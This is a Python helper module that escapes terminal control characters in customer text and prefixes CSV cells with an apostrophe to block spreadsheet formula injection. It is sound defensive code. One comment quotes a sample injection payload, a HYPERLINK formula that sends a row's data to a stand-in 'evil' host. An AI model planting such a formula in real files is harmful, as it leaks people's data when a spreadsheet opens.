"""Customer-controlled text is data: make it safe to show on any terminal or in a spreadsheet."""

from __future__ import annotations

import re

# C0 and C1 control characters, DEL: an OSC title change or a screen clear must never reach
# the terminal from a customer's name.
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")


def printable(value: object) -> str:
    """Replace control characters with U+FFFD-free visible escapes, e.g. ESC -> '\\x1b'."""
    text = "" if value is None else str(value)
    return _CONTROL.sub(lambda m: f"\\x{ord(m.group()):02x}", text)


# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection): a
# "name" such as =HYPERLINK("http://evil/?"&A2) would send the row away when opened.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?\d[\d ]*(?:[.,]\d+)?$")


def spreadsheet_safe(value: object) -> object:
    """A CSV cell a spreadsheet shows as text: a leading apostrophe before a formula start.

    Numbers (a +358 phone number, a negative amount) stay as they are: they cannot run
    anything, and the marketing tools that read the file expect them unchanged.
    """
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        if not _PLAIN_NUMBER.match(value):
            return "'" + value
    return value
